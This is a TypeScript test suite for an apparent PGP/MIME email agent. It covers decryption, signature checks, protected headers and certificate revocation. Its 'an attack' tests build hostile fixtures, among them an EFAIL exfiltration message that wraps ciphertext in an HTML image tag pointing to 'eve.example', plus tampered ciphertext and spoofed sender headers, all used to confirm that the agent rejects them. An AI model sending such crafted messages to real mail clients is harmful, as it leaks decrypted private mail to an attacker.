import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { concat, systemRandom, utf8 } from '@mailseal/common'
import { readPrimarySecret, signMessage } from '@mailseal/common/certificate'
import { composeSigned } from '@mailseal/common/pgp-mime'
import { describe, expect, it } from 'vitest'
import {
  enrolledAgent,
  frozen,
  type Issued,
  makeOrganization,
  NOW,
  newAgent,
  temporaryFolder,
  writeKeyFileAt,
} from '../organization.ts'
import { altered } from './messages.ts'
import { entryOf, enveloped, office, sealed, sealedLetter, written } from './office.ts'

const organization = await makeOrganization()
const [alice, bob, carol] = (await Promise.all(
  ['alice', 'bob', 'carol'].map((name) => organization.issue(`${name}@example.org`)),
)) as [Issued, Issued, Issued]
const everybody = [alice, bob, carol]
const LETTER = written({ To: 'bob@example.org' })
const CANNOT = { code: 'cannot-decrypt', exitCode: 29, message: 'the message cannot be decrypted' }

interface Situation {
  readonly people?: readonly Issued[]
  readonly entries?: Parameters<typeof entryOf>[]
  readonly list?: 'missing'
  readonly now?: number
}

/** Bob's agent, whose server has these certificates and this list. */
async function bobWith({ people = everybody, entries = [], list, now = NOW }: Situation = {}) {
  const signed = await organization.list({ number: now, at: now, entries: entries.map((entry) => entryOf(...entry)) })
  const fetch = office(list === 'missing' ? null : signed, people)
  return enrolledAgent(organization, bob, { fetch, clock: frozen(now) })
}

const text = (bytes: Uint8Array) => Buffer.from(bytes).toString()
const codes = ({ warnings }: { warnings: readonly { code: string }[] }) => warnings.map(({ code }) => code)

describe('an encrypted message', () => {
  it('opens: who signed it, to whom it is, its own subject and text', async () => {
    const { agent } = await bobWith()
    await agent.check(['alice@example.org'])
    const { message, ...opened } = await agent.open(
      await sealedLetter(LETTER, { from: alice, to: [bob, alice, carol] }),
    )
    expect(opened).toEqual({
      summary: 'confidential+verified',
      encrypted: true,
      signature: {
        status: 'good',
        signer: '<alice@example.org>',
        address: 'alice@example.org',
        serial: alice.serial,
        fingerprint: alice.key.fingerprint,
        signedAt: NOW,
        reason: null,
        revokedAt: null,
      },
      revocation: { state: 'fresh', number: NOW, age: 0 },
      recipients: [
        { address: 'bob@example.org', status: 'good' },
        { address: 'alice@example.org', status: 'good' },
        { address: null, status: 'none' },
      ],
      warnings: [],
      exitCode: 0,
      subject: 'Lunch',
      isSubjectCovered: true,
      from: 'alice@example.org',
      text: 'At noon?\n',
    })
    expect(text(message)).toMatch(/^MIME-Version: 1\.0\r\nFrom: Alice <alice@example\.org>\r\nSubject: Lunch\r\n/)
  })

  it('opens without a signature, which is no fault', async () => {
    const { agent } = await bobWith()
    expect(await agent.open(await sealedLetter(LETTER, { to: [bob] }))).toMatchObject({
      summary: 'confidential',
      signature: { status: 'none' },
      exitCode: 0,
      warnings: [],
      text: 'At noon?\n',
    })
  })

  it('takes From and Subject from outside where nothing inside speaks for them', async () => {
    const { agent } = await bobWith()
    const opened = await agent.open(
      enveloped(await sealed('Subject: Inside\r\n\r\nHi\r\n', { from: alice, to: [bob] })),
    )
    expect(opened).toMatchObject({
      summary: 'confidential+verified',
      subject: 'Outside',
      isSubjectCovered: false,
      from: 'alice@example.org',
      text: 'Hi\n',
    })
    expect(text(opened.message)).toMatch(
      /^From: alice@example\.org\r\nTo: bob@example\.org\r\nSubject: Outside\r\nMIME-Version: 1\.0\r\nSubject: Inside\r\n/,
    )
  })

  it('keeps the fields outside where only the subject is protected, as older programs do', async () => {
    const { agent } = await bobWith()
    const payload = 'Subject: Inside\r\nContent-Type: text/plain; protected-headers="v1"\r\n\r\nHi\r\n'
    const { message } = await agent.open(enveloped(await sealed(payload, { from: alice, to: [bob] })))
    expect(text(message)).toBe(`From: alice@example.org\r\nTo: bob@example.org\r\nMIME-Version: 1.0\r\n${payload}`)
  })

  it('opens whatever became of the own certificate, and without the server', async () => {
    const message = await sealedLetter(LETTER, { from: alice, to: [bob] })
    const revoked = await bobWith({ entries: [[bob]] })
    expect(await revoked.agent.open(message)).toMatchObject({ text: 'At noon?\n', recipients: [{ status: 'revoked' }] })
    const expired = await bobWith({ now: bob.key.validTo + 1000 })
    expect(await expired.agent.open(message)).toMatchObject({ text: 'At noon?\n', exitCode: 0 })
    const { home } = await bobWith()
    const offline = (await newAgent({ home })).agent
    expect(await offline.open(message)).toMatchObject({
      text: 'At noon?\n',
      summary: 'confidential',
      signature: { status: 'unknown', reason: 'no-certificate' },
      exitCode: 3,
      warnings: [{ code: 'crl-missing' }],
    })
  })

  it('shows its text also where no revocation list says whether to trust the signer', async () => {
    const { agent } = await bobWith({ list: 'missing' })
    expect(await agent.open(await sealedLetter(LETTER, { from: alice, to: [bob] }))).toMatchObject({
      exitCode: 103,
      summary: 'confidential',
      signature: { status: 'unknown', reason: 'revocation-list-missing' },
      text: 'At noon?\n',
    })
  })

  it('opens with every key of the key file: older ones, and bare ones from the archive', async () => {
    const [older, archived] = await Promise.all(
      ['bob@example.org', 'bob@example.org'].map((one) => organization.issue(one)),
    )
    const content = {
      ...organization.content(bob, older as Issued),
      recovered: [(archived as Issued).key.secretSubkey],
    }
    const { agent } = await newAgent({ fetch: office(await organization.list(), everybody) })
    await agent.keyFile.use(await writeKeyFileAt(join(await temporaryFolder(), 'copy'), content))
    const reader = await agent.openReader()
    for (const key of [bob, older as Issued, archived as Issued]) {
      const opened = await reader.open(await sealedLetter(LETTER, { from: alice, to: [key] }))
      expect(opened).toMatchObject({
        text: 'At noon?\n',
        recipients: [{ address: 'bob@example.org', status: key === bob ? 'good' : 'expired' }],
      })
    }
    reader.close()
  })

  it('unlocks the key file once for many, and for none that is not encrypted', async () => {
    const { home } = await bobWith()
    let asked = 0
    const password = async () => {
      asked++
      return asked === 1 ? 'wrong horse' : 'correct horse'
    }
    const { agent } = await newAgent({ home, password })
    const reader = await agent.openReader()
    await reader.open(LETTER)
    expect(asked).toBe(0)
    const message = await sealedLetter(LETTER, { to: [bob] })
    await expect(reader.open(message)).rejects.toMatchObject({ code: 'password-wrong' })
    await reader.open(message)
    await reader.open(message)
    expect(asked).toBe(2)
    reader.close()
  })

  it('opens as RFC 1847 nests it: a signed message is all that is encrypted', async () => {
    const { agent } = await bobWith()
    const key = await readPrimarySecret(alice.key.secretKey)
    const signed = await composeSigned({
      message: LETTER,
      micalg: 'pgp-sha512',
      random: systemRandom,
      sign: (bytes) => signMessage(key, bytes, NOW),
    })
    const entity = signed.subarray(text(signed).indexOf('Content-Type: multipart/signed'))
    const good = await agent.open(enveloped(await sealed(entity, { to: [bob] })))
    expect(good).toMatchObject({ summary: 'confidential+verified', signature: { status: 'good' }, text: 'At noon?\n' })
    const bad = await agent.open(enveloped(await sealed(altered(entity, 'At noon?', 'At ten??'), { to: [bob] })))
    expect(bad).toMatchObject({ summary: 'confidential', exitCode: 3, signature: { status: 'bad', reason: 'altered' } })
    const protectedPart = altered(
      entity,
      'Content-Type: text/plain;',
      'Subject: Inside\r\nContent-Type: text/plain; hp=cipher;',
    )
    const { message } = await agent.open(enveloped(await sealed(protectedPart, { to: [bob] })))
    expect(text(message)).toMatch(/^From: alice@example\.org\r\n/)
    // One bad signature of two makes the whole bad.
    const mixed = await sealed(altered(entity, 'At noon?', 'At ten??'), { from: alice, to: [bob] })
    expect(await agent.open(enveloped(mixed))).toMatchObject({ exitCode: 3, signature: { status: 'bad' } })
  })

  it('can be a text, or a file, of one armored message', async () => {
    const { agent } = await bobWith()
    const armor = await sealed('Subject: Inside\r\nContent-Type: text/html; hp="cipher"\r\n\r\nHällo\r\n', {
      from: alice,
      to: [bob],
    })
    const inText = await agent.open(utf8(`From: alice@example.org\r\nSubject: Outside\r\n\r\n${armor}`))
    expect(inText).toMatchObject({
      summary: 'confidential+verified',
      subject: 'Outside',
      from: 'alice@example.org',
      text: 'Subject: Inside\nContent-Type: text/html; hp="cipher"\n\nHällo\n',
    })
    expect(text(inText.message)).toContain('\r\nContent-Transfer-Encoding: 8bit\r\n\r\nSubject: Inside\r\n')
    const file = await agent.open(utf8(armor))
    expect(file).toMatchObject({ subject: '', from: null, encrypted: true, signature: { status: 'mismatch' } })
  })

  it('tells when what it is encrypted with is not safe any more', async () => {
    const openpgp = await import('openpgp')
    const message = await openpgp.encrypt({
      message: await openpgp.createMessage({ binary: utf8('\r\nHi\r\n') }),
      sessionKey: { data: systemRandom(24), algorithm: 'tripledes' },
      encryptionKeys: await openpgp.readKey({ binaryKey: bob.certificate }),
      date: new Date(NOW * 1000),
    })
    const { agent } = await bobWith()
    expect(codes(await agent.open(enveloped(message)))).toContain('weak-algorithm')
  })
})

describe('a message that is not encrypted', () => {
  it('is verified as ever, and shown', async () => {
    const { agent } = await bobWith()
    const opened = await agent.open(LETTER)
    expect(opened).toMatchObject({
      summary: 'unprotected',
      encrypted: false,
      exitCode: 3,
      subject: 'Lunch',
      isSubjectCovered: false,
      text: 'At noon?\n',
    })
    expect(opened.message).toBe(LETTER)
  })

  it('has its subject from the signature, where that covers it', async () => {
    const key = await readPrimarySecret(alice.key.secretKey)
    const signed = async (signer: typeof key) =>
      composeSigned({
        message: written({ Subject: 'Outside' }).slice(),
        micalg: 'pgp-sha512',
        random: systemRandom,
        sign: (bytes) => signMessage(signer, bytes, NOW),
      })
    const { agent } = await bobWith()
    const part = 'Subject: Inside\r\nFrom: alice@example.org\r\nContent-Type: text/plain; hp="clear"\r\n\r\nHi'
    const whole = async (bytes: string, made = bytes) =>
      utf8(
        `From: alice@example.org\r\nSubject: Outside\r\nContent-Type: multipart/signed; protocol="application/pgp-signature"; boundary=b\r\n\r\n--b\r\n${bytes}\r\n--b\r\nContent-Type: application/pgp-signature\r\n\r\n${await signMessage(key, utf8(made), NOW)}\r\n--b--\r\n`,
      )
    expect(await agent.open(await whole(part))).toMatchObject({
      subject: 'Inside',
      isSubjectCovered: true,
      exitCode: 0,
    })
    // What nobody signed is worth no more than what is outside.
    const forged = await agent.open(await whole(part, 'something else'))
    expect(forged).toMatchObject({ subject: 'Outside', isSubjectCovered: false, exitCode: 3 })
    expect(await agent.open(await signed(key))).toMatchObject({ subject: 'Outside', isSubjectCovered: false })
  })
})

describe('an attack', () => {
  it('EFAIL, altered ciphertext: nothing is shown, and no reason told', async () => {
    const { agent } = await bobWith()
    const message = text(await sealedLetter(LETTER, { from: alice, to: [bob] }))
    const lines = message.split('\r\n')
    const at = lines.findIndex((line) => line.startsWith('-----BEGIN')) + 5
    lines[at] = [...(lines[at] as string)].reverse().join('')
    await expect(agent.open(utf8(lines.join('\r\n')))).rejects.toMatchObject(CANNOT)
    await expect(agent.open(await sealedLetter(LETTER, { from: alice, to: [carol] }))).rejects.toMatchObject(CANNOT)
  })

  it('EFAIL, direct exfiltration: HTML around the encrypted part is shown with it never', async () => {
    const { agent } = await bobWith()
    const message = text(await sealedLetter(LETTER, { from: alice, to: [bob] }))
    const inner = message.slice(message.indexOf('Content-Type: multipart/encrypted'))
    const part = (html: string) => `--x\r\nContent-Type: text/html\r\n\r\n${html}\r\n`
    const wrapped = `From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n${part('<img src="http://eve.example/')}--x\r\n${inner}\r\n${part('">')}--x--\r\n`
    const opened = await agent.open(utf8(wrapped))
    expect(opened).toMatchObject({ summary: 'unprotected', encrypted: false, exitCode: 3 })
    expect(opened.text).not.toContain('noon')
    expect(codes(opened)).toEqual(['outside-content'])
  })

  it('text before and behind the encrypted part is not shown', async () => {
    const { agent } = await bobWith()
    const message = altered(
      await sealedLetter(LETTER, { from: alice, to: [bob] }),
      '\r\n\r\n--',
      '\r\n\r\nPay Eve!\r\n--',
    )
    expect(await agent.open(concat(message, utf8('And Mallory!\r\n')))).toMatchObject({
      text: 'At noon?\n',
      exitCode: 0,
    })
  })

  it('a signature outside the encryption counts for nothing', async () => {
    const { agent } = await bobWith()
    const eve = await organization.issue('eve@example.org')
    const message = text(await sealedLetter(LETTER, { from: null, to: [bob] }))
    const entity = message.slice(message.indexOf('Content-Type: multipart/encrypted'))
    const signature = await signMessage(await readPrimarySecret(eve.key.secretKey), utf8(entity), NOW)
    const signed = `From: eve@example.org\r\nContent-Type: multipart/signed; protocol="application/pgp-signature"; boundary=s\r\n\r\n--s\r\n${entity}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n${signature}\r\n--s--\r\n`
    const opened = await agent.open(utf8(signed))
    expect(opened.text).not.toContain('noon')
    expect(opened).toMatchObject({ encrypted: false, subject: '' })
    expect(opened.summary).not.toContain('confidential')
    const byAlice = await signMessage(await readPrimarySecret(alice.key.secretKey), utf8(entity), NOW)
    const known = utf8(signed.replace('From: eve@', 'From: alice@').replace(signature, () => byAlice))
    const verdict = { summary: 'unprotected', signature: { status: 'none' }, warnings: [{ code: 'outside-content' }] }
    expect(await agent.open(known)).toMatchObject({ ...verdict, exitCode: 3 })
    const verifier = await agent.openVerifier()
    expect(await verifier.verify(known)).toMatchObject({ ...verdict, exitCode: 3 })
    verifier.close()
  })

  it('another From outside does not lend a good signature its name', async () => {
    const { agent } = await bobWith()
    const message = altered(
      await sealedLetter(LETTER, { from: alice, to: [bob] }),
      'From: Alice <alice@',
      'From: Boss <boss@',
    )
    const opened = await agent.open(message)
    expect(opened).toMatchObject({ from: 'alice@example.org', summary: 'confidential+verified' })
    expect(opened.warnings).toEqual([
      {
        code: 'protected-header-mismatch',
        message: 'the message travels as from boss@example.org, and inside it is from alice@example.org',
      },
    ])
  })

  it('another From inside is worth nothing unless its owner signed', async () => {
    const { agent } = await bobWith()
    const posing = written({ From: 'boss@example.org', To: 'bob@example.org' })
    const unsigned = altered(await sealedLetter(posing, { to: [bob] }), 'From: boss@', 'From: eve@')
    const opened = await agent.open(unsigned)
    expect(opened).toMatchObject({ from: 'eve@example.org', summary: 'confidential' })
    expect(codes(opened)).toEqual(['protected-header-mismatch'])
    const signed = await agent.open(await sealedLetter(posing, { from: alice, to: [bob] }))
    expect(signed).toMatchObject({ exitCode: 102, signature: { status: 'mismatch' }, summary: 'confidential' })
  })

  it('phony protected headers outside, or in a message that nothing protects, are none', async () => {
    const { agent } = await bobWith()
    const armor = await sealed('Content-Type: text/plain\r\n\r\nHi\r\n', { from: alice, to: [bob] })
    const header = 'From: alice@example.org\r\nSubject: Outside\r\nHP-Outer: Subject: forged\r\n'
    expect(await agent.open(altered(enveloped(armor, header), 'boundary=b', 'hp="cipher"; boundary=b'))).toMatchObject({
      subject: 'Outside',
      isSubjectCovered: false,
    })
    const plain = utf8('From: alice@example.org\r\nSubject: x\r\nContent-Type: text/plain; hp="cipher"\r\n\r\nHi\r\n')
    expect(await agent.open(plain)).toMatchObject({ isSubjectCovered: false, summary: 'unprotected' })
    const nested = `Content-Type: multipart/mixed; boundary=n\r\n\r\n--n\r\nSubject: Deep\r\nContent-Type: text/plain; hp="cipher"\r\n\r\nHi\r\n--n--\r\n`
    expect(await agent.open(enveloped(await sealed(nested, { from: alice, to: [bob] })))).toMatchObject({
      subject: 'Outside',
      isSubjectCovered: false,
    })
  })

  it('an encrypted message that is not formed so is refused, and says why', async () => {
    const { agent } = await bobWith()
    const armor = await sealed('\r\nHi\r\n', { to: [bob] })
    await expect(agent.open(altered(enveloped(armor), 'Version: 1', 'Version: 3'))).rejects.toMatchObject({
      code: 'bad-data',
      message: 'the encrypted message is of an unknown version',
    })
  })

  it('a layer inside the payload does not make it another message', async () => {
    const { agent } = await bobWith()
    const inner = enveloped(await sealed('\r\nHi\r\n', { to: [bob] }), '')
    const wrapped = `Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n${text(inner).replaceAll('\r\n--b', '\r\n--b')}\r\n--m--\r\n`
    const opened = await agent.open(enveloped(await sealed(wrapped, { from: alice, to: [bob] })).slice())
    expect(codes(opened)).toContain('outside-content')
    expect(opened.text).not.toContain('Hi')
  })

  it('an encrypted message is nothing more for verify, which opens nothing', async () => {
    const { agent } = await bobWith()
    const armor = await sealed('Hi\r\n', { from: alice, to: [bob] })
    const inText = utf8(`From: alice@example.org\r\n\r\n${armor}`)
    const malformed = altered(enveloped(armor), 'Version: 1', 'Version: 3')
    for (const message of [await sealedLetter(LETTER, { from: alice, to: [bob] }), inText, malformed]) {
      expect(await agent.verify(message)).toMatchObject({
        encrypted: true,
        summary: 'unprotected',
        signature: { status: 'none', reason: 'encrypted' },
        text: '',
        exitCode: 3,
      })
    }
  })
})

describe('revoked keys among the recipients', () => {
  it('are reported, each person once', async () => {
    const { agent } = await bobWith({ entries: [[carol]] })
    await agent.check(['carol@example.org', 'alice@example.org'])
    const letter = written({ To: 'bob@example.org, carol@example.org' })
    const opened = await agent.open(await sealedLetter(letter, { from: alice, to: [bob, carol] }))
    expect(opened).toMatchObject({
      exitCode: 0,
      recipients: [
        { address: 'bob@example.org', status: 'good' },
        { address: 'carol@example.org', status: 'revoked' },
      ],
    })
    expect(codes(opened)).toEqual(['recipient-revoked'])
  })

  it('are no news where a key was replaced after the message', async () => {
    const later = await bobWith({ entries: [[carol, 'replaced', NOW + 50]], now: NOW + 100 })
    await later.agent.check(['carol@example.org'])
    const letter = written({ To: 'carol@example.org' })
    const before = await later.agent.open(await sealedLetter(letter, { from: alice, to: [bob, carol], at: NOW }))
    expect([before.recipients[1]?.status, codes(before)]).toEqual(['expired', []])
    const after = await later.agent.open(await sealedLetter(letter, { from: alice, to: [bob, carol], at: NOW + 60 }))
    expect([after.recipients[1]?.status, codes(after)]).toEqual(['revoked', ['recipient-revoked']])
  })

  it('of the sender are told of an unsigned message, in the words of old, with 100', async () => {
    const { agent } = await bobWith({ entries: [[alice]] })
    const opened = await agent.open(await sealedLetter(LETTER, { to: [bob, alice] }))
    expect(opened).toMatchObject({ exitCode: 100, summary: 'confidential', text: 'At noon?\n' })
    expect(opened.warnings).toContainEqual({
      code: 'sender-revoked',
      message: 'This message was secured with a revoked security certificate.',
    })
  })

  it('of the sender are told also where the sender has a new certificate by now', async () => {
    let people = [alice, bob]
    const list = await organization.list({ entries: [entryOf(alice)] })
    const fetch: typeof globalThis.fetch = (input, init) => office(list, people)(input, init)
    const { agent } = await enrolledAgent(organization, bob, { fetch })
    await agent.check(['alice@example.org'])
    people = [await organization.issue('alice@example.org'), bob]
    expect(await agent.open(await sealedLetter(LETTER, { to: [bob] }))).toMatchObject({ exitCode: 0 })
    expect(await agent.open(await sealedLetter(LETTER, { to: [bob, alice] }))).toMatchObject({ exitCode: 100 })
  })

  it('need not be among them: it is enough that the sender has no other certificate', async () => {
    const { agent } = await bobWith({ entries: [[alice]] })
    expect(await agent.open(await sealedLetter(LETTER, { to: [bob] }))).toMatchObject({ exitCode: 100 })
    const ended = { ...alice, certificate: await organization.ended(alice, 'left') }
    const published = await bobWith({ people: [ended] })
    expect(await published.agent.open(await sealedLetter(LETTER, { to: [bob] }))).toMatchObject({ exitCode: 100 })
  })

  it('say nothing of a sender who has a new certificate, or whose key was only replaced', async () => {
    const newAlice = await organization.issue('alice@example.org')
    const { agent } = await bobWith({ people: [alice, newAlice], entries: [[alice]] })
    expect(await agent.open(await sealedLetter(LETTER, { to: [bob] }))).toMatchObject({ exitCode: 0 })
    const replaced = await bobWith({ entries: [[alice, 'replaced']] })
    expect(await replaced.agent.open(await sealedLetter(LETTER, { to: [bob] }))).toMatchObject({ exitCode: 0 })
  })

  it('of the signer make it revoked, and that is remembered when the list has forgotten', async () => {
    const message = await sealedLetter(LETTER, { from: alice, to: [bob] })
    const { agent, home } = await bobWith({ entries: [[alice]] })
    expect(await agent.open(message)).toMatchObject({ exitCode: 100, signature: { status: 'revoked' } })
    const empty = await organization.list({ number: NOW + 10 })
    await writeFile(join(home, 'revocations.crl'), empty)
    const offline = (await newAgent({ home })).agent
    expect(await offline.open(message)).toMatchObject({ exitCode: 100, signature: { status: 'revoked' } })
  })
})
